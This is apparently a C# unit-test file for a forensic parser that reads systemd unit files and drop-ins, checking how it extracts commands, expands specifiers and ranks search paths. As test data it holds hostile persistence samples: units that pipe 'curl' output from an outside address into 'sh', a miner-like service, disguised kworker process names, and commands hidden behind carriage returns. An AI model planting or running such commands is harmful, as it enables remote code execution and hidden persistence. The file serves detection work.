using Forensics.Parsers.Artifacts;
using Forensics.Parsers.Artifacts.Linux;
using Forensics.Parsers.Diagnostics;
using Xunit;

namespace Forensics.Parsers.Tests.Artifacts.Linux;

public sealed class SystemdUnitParserTests
{
    private const string UnitPath = "/etc/systemd/system/x.service";

    internal static SystemdUnit Unit(string path, string text) =>
        Assert.IsType<SystemdUnit>(Assert.Single(ArtifactRun.Parse(new SystemdUnitParser(), path, text).Artifacts));

    [Fact]
    public void Ssh_service_of_debian()
    {
        const string Text = """
            [Unit]
            Description=OpenBSD Secure Shell server
            Documentation=man:sshd(8) man:sshd_config(5)
            After=network.target auditd.service
            ConditionPathExists=!/etc/ssh/sshd_not_to_be_run

            [Service]
            EnvironmentFile=-/etc/default/ssh
            ExecStartPre=/usr/sbin/sshd -t
            ExecStart=/usr/sbin/sshd -D $SSHD_OPTS
            ExecReload=/usr/sbin/sshd -t
            ExecReload=/bin/kill -HUP $MAINPID
            KillMode=process
            Restart=on-failure
            RestartPreventExitStatus=255
            Type=notify
            RuntimeDirectory=sshd
            RuntimeDirectoryMode=0755

            [Install]
            WantedBy=multi-user.target
            Alias=sshd.service

            """;
        SystemdUnit unit = Unit("/usr/lib/systemd/system/ssh.service", Text);
        Assert.Equal(("ssh.service", "service", false, false, 10, false), (unit.Name, unit.UnitType, unit.IsUserUnit, unit.IsDropIn, unit.SearchRank, unit.IsMasked));
        Assert.Equal(["/usr/sbin/sshd -t", "/usr/sbin/sshd -D $SSHD_OPTS", "/usr/sbin/sshd -t", "/bin/kill -HUP $MAINPID"], unit.Commands.Select(command => command.Text));
        Assert.Equal(["systemd ExecStartPre", "systemd ExecStart", "systemd ExecReload", "systemd ExecReload"], unit.Commands.Select(command => command.Trigger));
        Assert.All(unit.Commands, command => Assert.Equal((false, null, null), (command.ThroughShell, command.DormantBecause, command.User)));
        Assert.Equal(10, unit.Commands[1].Line);
        Assert.Equal(Text.IndexOf("ExecStart=/", StringComparison.Ordinal), unit.Commands[1].ByteOffset);
        Assert.Equal("-/etc/default/ssh", unit.Value("Service", "EnvironmentFile"));
        Assert.Equal("multi-user.target", unit.Value("Install", "WantedBy"));
        Assert.Null(unit.Value("Install", "Restart"));
        Assert.Equal(17, unit.Settings.Count);
    }

    [Fact]
    public void Getty_template_of_debian()
    {
        SystemdUnit unit = Unit("/usr/lib/systemd/system/getty@.service",
            "[Unit]\nDescription=Getty on %I\n[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM\nType=idle\nTTYPath=/dev/%I\n[Install]\nDefaultInstance=tty1\n");
        StartCommand command = Assert.Single(unit.Commands);
        Assert.Equal("/sbin/agetty -o '-p -- \\u' --noclear - $TERM", command.Text);
        Assert.Equal("/dev/%I", unit.Value("Service", "TTYPath"));
    }

    [Fact]
    public void Timer_path_and_socket_keep_their_settings()
    {
        SystemdUnit timer = Unit("/usr/lib/systemd/system/apt-daily.timer",
            "[Unit]\nDescription=Daily apt download activities\n\n[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n");
        Assert.Equal("timer", timer.UnitType);
        Assert.Equal("*-*-* 6,18:00", timer.Value("Timer", "OnCalendar"));
        Assert.Empty(timer.Commands);
        SystemdUnit socket = Unit("/etc/systemd/system/x.socket", "[Socket]\nListenStream=31337\nAccept=yes\nUser=nobody\nExecStartPre=/tmp/.x\nExecStart=/never\n");
        StartCommand command = Assert.Single(socket.Commands);
        Assert.Equal(("/tmp/.x", "nobody", null), (command.Text, command.User, command.DormantBecause));
    }

    [Fact]
    public void Docker_drop_in_resets_the_list()
    {
        SystemdUnit unit = Unit("/etc/systemd/system/docker.service.d/override.conf",
            "[Service]\nEnvironment=\"HTTP_PROXY=http://192.0.2.1:3128\" \"NO_PROXY=localhost,127.0.0.1\"\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock\n");
        Assert.Equal(("docker.service", "service", true, 4), (unit.Name, unit.UnitType, unit.IsDropIn, unit.SearchRank));
        StartCommand command = Assert.Single(unit.Commands);
        Assert.Equal("/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock", command.Text);
        Assert.Equal(["HTTP_PROXY=http://192.0.2.1:3128", "NO_PROXY=localhost,127.0.0.1"], command.Environment);
        Assert.Equal(["", "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock"],
            unit.Settings.Where(setting => setting.Key == "ExecStart").Select(setting => setting.Value));
    }

    [Fact]
    public void Ec2_instance_connect_drop_in_is_read_like_the_malicious_one()
    {
        SystemdUnit benign = Unit("/usr/lib/systemd/system/ssh.service.d/ec2-instance-connect.conf",
            "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o \"AuthorizedKeysCommand /usr/share/ec2-instance-connect/eic_run_authorized_keys %%u %%f\" "
            + "-o \"AuthorizedKeysCommandUser ec2-instance-connect\" $SSHD_OPTS\n");
        Assert.Equal("/usr/sbin/sshd -D -o 'AuthorizedKeysCommand /usr/share/ec2-instance-connect/eic_run_authorized_keys %u %f' "
            + "-o 'AuthorizedKeysCommandUser ec2-instance-connect' $SSHD_OPTS", Assert.Single(benign.Commands).Text);
        SystemdUnit bad = Unit("/etc/systemd/system/ssh.service.d/z.conf", "[Service]\nExecStartPost=-/usr/bin/curl -s 203.0.113.9/x|sh\n");
        Assert.Equal(("/usr/bin/curl -s '203.0.113.9/x|sh'", "systemd ExecStartPost"), (bad.Commands[0].Text, bad.Commands[0].Trigger));
    }

    // Expected words and order are what systemd 252 lists for the same settings ("systemd-analyze verify" with debug logging).
    [Theory]
    [InlineData("/usr/bin/.dbus-daemon -c /etc/.cfg", "/usr/bin/.dbus-daemon -c /etc/.cfg", null)]
    [InlineData("/home/app/.nvm/versions/node/v20/bin/node server.js", "/home/app/.nvm/versions/node/v20/bin/node server.js", null)]
    [InlineData("/opt/actions-runner/run.sh", "/opt/actions-runner/run.sh", null)]
    [InlineData("@/usr/bin/python3 [kworker/0:1] /opt/a.py", "/usr/bin/python3 /opt/a.py", "[kworker/0:1]")]
    [InlineData("-@/bin/sh [kworker/0:1] -c 'echo \"hi\" | sh'", "/bin/sh -c 'echo \"hi\" | sh'", "[kworker/0:1]")]
    [InlineData("/bin/sh -c \"echo 'a b'\"", "/bin/sh -c \"echo 'a b'\"", null)]
    [InlineData("+:-/bin/true", "/bin/true", null)]
    [InlineData("!!/bin/true", "/bin/true", null)]
    [InlineData("/bin/echo a\\;b \\; c \"d;e\"", "/bin/echo 'a\\;b' ';' c 'd;e'", null)]
    [InlineData("/bin/echo \"x y\"z'q' \\q \\x41 \\s \\101 \\u00e9 \\xc3\\xa9", "/bin/echo 'x yzq' '\\q' A ' ' A 'é' 'é'", null)]
    [InlineData("/bin/echo %n %p %h %u %t %% %i.", "/bin/echo x.service x /root root /run % .", null)]
    [InlineData("/bin/true % x", "/bin/true % x", null)]
    [InlineData("/bin/true \\ ", "/bin/true '\\'", null)]
    [InlineData("/bin/sh -c 'echo $$HOME ${HOME}'", "/bin/sh -c 'echo $HOME ${HOME}'", null)]
    [InlineData(":/bin/echo $$x", "/bin/echo '$$x'", null)]
    [InlineData("/bin/echo ''", "/bin/echo ''", null)]
    [InlineData("bash -i", "bash -i", null)]
    public void Command_line_becomes_the_words_systemd_would_start(string value, string text, string? argv0)
    {
        StartCommand command = Assert.Single(Unit(UnitPath, $"[Service]\nExecStart={value}\n").Commands);
        Assert.Equal(text, command.Text);
        Assert.Equal(argv0, command.Argv0);
        Assert.Null(command.DormantBecause);
        Assert.False(command.ThroughShell);
    }

    [Theory]
    [InlineData("/bin/echo 'open")]
    [InlineData("/bin/")]
    [InlineData("bin/x")]
    [InlineData("@/bin/sh")]
    [InlineData("-")]
    [InlineData("+!/bin/true")]
    [InlineData("/bin/true %z")]
    [InlineData("/bin/ec\\\"ho")]
    public void Line_that_systemd_refuses_is_dormant(string value) =>
        Assert.NotNull(Assert.Single(Unit(UnitPath, $"[Service]\nExecStart={value}\n").Commands).DormantBecause);

    [Fact]
    public void Semicolon_separates_commands_in_order()
    {
        SystemdUnit unit = Unit(UnitPath, "[Service]\nType=oneshot\nExecStartPost=/bin/z\nExecStart=/bin/a 1 ; -/bin/b 2 ;\nExecStart=; /bin/c\n");
        Assert.Equal(["/bin/z", "/bin/a 1", "/bin/b 2", "/bin/c"], unit.Commands.Select(command => command.Text));
    }

    [Fact]
    public void Shell_prefix_is_run_through_a_shell()
    {
        StartCommand command = Assert.Single(Unit(UnitPath, "[Service]\nExecStart=|curl 203.0.113.9/x > /tmp/x && sh /tmp/x\n").Commands);
        Assert.True(command.ThroughShell);
        Assert.Equal("curl 203.0.113.9/x > /tmp/x && sh /tmp/x", command.Text);
    }

    [Fact]
    public void Variables_of_the_file_are_put_in_place()
    {
        SystemdUnit unit = Unit(UnitPath, "[Service]\nUser=miner\nWorkingDirectory=-/var/tmp/.x\nEnvironment=OLD=1\nEnvironment=\n"
            + "Environment=\"A=/tmp/.x -o pool\" B=203.0.113.9 9BAD=1\nExecStart=/bin/sh -c \"curl ${B}/x\" $A ${A} $C ${C} x$A\nExecStop=+/bin/id\n");
        Assert.Equal("/bin/sh -c 'curl 203.0.113.9/x' /tmp/.x -o pool '/tmp/.x -o pool' $C ${C} 'x$A'", unit.Commands[0].Text);
        Assert.Equal(["A=/tmp/.x -o pool", "B=203.0.113.9"], unit.Commands[0].Environment);
        Assert.Equal(("miner", "/var/tmp/.x"), (unit.Commands[0].User, unit.Commands[0].WorkingDirectory));
        Assert.Equal("root", unit.Commands[1].User);
    }

    [Fact]
    public void Continuation_comments_and_blanks_follow_the_syntax()
    {
        SystemdUnit unit = Unit(UnitPath, "; c\n# c\n[Service]\n  ExecStart = /bin/echo one \\\n# between\n   ; also\n  two \\\n\nNice=5\nno assignment\n=x\nExecStop=/bin/b \\");
        Assert.Equal(["/bin/echo one two", "/bin/b"], unit.Commands.Select(command => command.Text));
        Assert.Equal(4, unit.Commands[0].Line);
        Assert.Equal("5", unit.Value("Service", "Nice"));
    }

    [Fact]
    public void Command_hidden_behind_a_carriage_return_or_nul_is_seen()
    {
        SystemdUnit unit = Unit(UnitPath, "[Service]\n# harmless\rExecStart=/tmp/.x\n# harmless\0ExecStop=/tmp/.y\n");
        Assert.Equal(["/tmp/.x", "/tmp/.y"], unit.Commands.Select(command => command.Text));
        Assert.Equal((2, 21L), (unit.Commands[0].Line!.Value, unit.Commands[0].ByteOffset!.Value));
    }

    [Fact]
    public void Exec_line_in_a_section_of_another_type_is_dormant_or_no_command()
    {
        Assert.NotNull(Assert.Single(Unit("/etc/systemd/system/x.timer", "[Service]\nExecStart=/tmp/x\n").Commands).DormantBecause);
        Assert.Empty(Unit(UnitPath, "[service]\nExecStart=/tmp/x\nExecstart=/y\n").Commands);
    }

    [Fact]
    public void Empty_file_masks_the_unit()
    {
        Assert.True(Unit("/etc/systemd/system/auditd.service", "").IsMasked);
        Assert.False(Unit("/etc/systemd/system/auditd.service", "\n").IsMasked);
        Assert.False(Unit("/etc/systemd/system/auditd.service.d/a.conf", "").IsMasked);
    }

    [Theory]
    [InlineData("/etc/systemd/system.control/x.service", 0, false)]
    [InlineData("/etc/systemd/system/x.service", 4, false)]
    [InlineData("/run/systemd/system/x.service", 6, false)]
    [InlineData("/usr/local/lib/systemd/system/x.service", 9, false)]
    [InlineData("/usr/lib/systemd/system/x.service", 10, false)]
    [InlineData("/lib/systemd/system/x.service", 10, false)]
    [InlineData("/run/systemd/generator.late/x.service", 11, false)]
    [InlineData("/home/bob/.config/systemd/user.control/x.service", 0, true)]
    [InlineData("/home/bob/.config/systemd/user/x.service", 4, true)]
    [InlineData("/etc/xdg/systemd/user/x.service", 5, true)]
    [InlineData("/etc/systemd/user/x.service", 6, true)]
    [InlineData("/run/user/1000/systemd/user/x.service", 7, true)]
    [InlineData("/root/.local/share/systemd/user/x.service", 10, true)]
    [InlineData("/usr/lib/systemd/user/x.service", 14, true)]
    [InlineData("/usr/lib/systemd/linux.service", -1, false)]
    [InlineData("/etc/systemd/system/sub/x.service", -1, false)]
    [InlineData("/etc/systemd/system/multi-user.target.wants/x.service", -1, false)]
    [InlineData("/tmp/x.service", -1, false)]
    public void Rank_follows_the_search_path(string path, int rank, bool user)
    {
        SystemdUnit unit = Unit(path, "[Service]\nExecStart=/bin/x\n");
        Assert.Equal((rank, user), (unit.SearchRank, unit.IsUserUnit));
        Assert.Equal(rank < 0, unit.Commands[0].DormantBecause is not null);
    }

    [Theory]
    [InlineData("/etc/systemd/system/service.d/a.conf", "service", "service")]
    [InlineData("/etc/systemd/system/foo-.service.d/a.conf", "foo-.service", "service")]
    [InlineData("/usr/lib/systemd/system/user@.service.d/10-login-barrier.conf", "user@.service", "service")]
    [InlineData("/home/bob/.config/systemd/user/x.timer.d/a.conf", "x.timer", "timer")]
    [InlineData("/usr/lib/systemd/system/dev-disk-by\\x5cx2dlabel.mount.d/a.conf", "dev-disk-by\\x2dlabel.mount", "mount")]
    public void Drop_in_names_what_it_applies_to(string path, string name, string type)
    {
        SystemdUnit unit = Unit(path, "[Unit]\nX=1\n");
        Assert.Equal((name, type, true), (unit.Name, unit.UnitType, unit.IsDropIn));
    }

    [Theory]
    [InlineData("/etc/systemd/system/README")]
    [InlineData("/etc/systemd/system/x.service.bak")]
    [InlineData("/etc/systemd/system/x.service.d/readme.txt")]
    [InlineData("/etc/systemd/system/x.d/a.conf")]
    [InlineData("/etc/systemd/system/.service")]
    public void Other_files_are_left_alone(string path) =>
        Assert.Empty(ArtifactRun.Parse(new SystemdUnitParser(), path, "[Service]\nExecStart=/bin/x\n").Artifacts);

    [Theory]
    [InlineData("/etc/systemd/system/.x.service")]
    [InlineData("/etc/systemd/system/a b.service")]
    public void Names_that_systemd_skips_are_dormant(string path) =>
        Assert.NotNull(Unit(path, "[Service]\nExecStart=/bin/x\n").Commands[0].DormantBecause);

    [Theory]
    [InlineData("/home/bob/.config/systemd/user/x.service", "/home/bob/.local/bin/x bob")]
    [InlineData("/usr/lib/systemd/user/x.service", "%h/.local/bin/x %u")]
    [InlineData("/etc/systemd/system/x.service", "/root/.local/bin/x root")]
    public void Home_and_user_specifiers_depend_on_the_manager(string path, string text) =>
        Assert.Equal(text, Unit(path, "[Service]\nExecStart=%h/.local/bin/x %u\n").Commands[0].Text);

    [Theory]
    [InlineData("x@.service", "", "%i %I")]
    [InlineData("x@.service", "[Install]\nDefaultInstance=a-b\n", "a-b a/b")]
    [InlineData("x@dev-sda\\x5cx2d1.service", "", "'dev-sda\\x2d1' dev/sda-1")]
    public void Instance_specifier(string name, string extra, string text) =>
        Assert.Equal("/bin/echo " + text, Unit("/etc/systemd/system/" + name, $"[Service]\nExecStart=/bin/echo %i %I\n{extra}").Commands[0].Text);

    [Fact]
    public void Garbage_and_hostile_sizes_end_quickly()
    {
        ArtifactRun.SurvivesGarbage(new SystemdUnitParser(), UnitPath, "[Service]\nEnvironment=\"A=b\" C='d'\nExecStart=@-/bin/sh -c 'x' ; $A ${C} %h %i\\\n", "\nExecStart=");
        ArtifactRun.SurvivesHostileSizes(new SystemdUnitParser(), UnitPath, "[Service]\nExecStart=/a\n");
        ArtifactRun.SurvivesHostileSizes(new SystemdUnitParser(), UnitPath, "a=b\\\n");
    }

    [Theory]
    [InlineData("a;")]
    [InlineData("a ; ")]
    [InlineData("%h")]
    [InlineData("%n ")]
    [InlineData("$A ")]
    [InlineData("${A}")]
    [InlineData("\\x41'\"\"'")]
    public void Expansion_is_bounded(string piece)
    {
        string path = "/" + new string('h', 4000) + "/.config/systemd/user/x.service";
        string line = string.Concat(Enumerable.Repeat(piece, 60_000 / piece.Length));
        string text = "[Service]\nEnvironment=A=" + new string('v', 60_000) + "\n" + string.Concat(Enumerable.Repeat($"ExecStart=/bin/{line}\nExecStop=/bin/x {line}\n", 100));
        var clock = System.Diagnostics.Stopwatch.StartNew();
        ArtifactList list = ArtifactRun.Parse(new SystemdUnitParser(), path, System.Text.Encoding.UTF8.GetBytes(text));
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(30), clock.Elapsed.ToString());
        SystemdUnit unit = Assert.Single(list.Of<SystemdUnit>());
        Assert.True(unit.Commands.Count <= ScanLimits.Default.ArtifactsPerFile);
        Assert.True(unit.Commands.Sum(command => (long)command.Text.Length) < 64 << 20);
    }
}
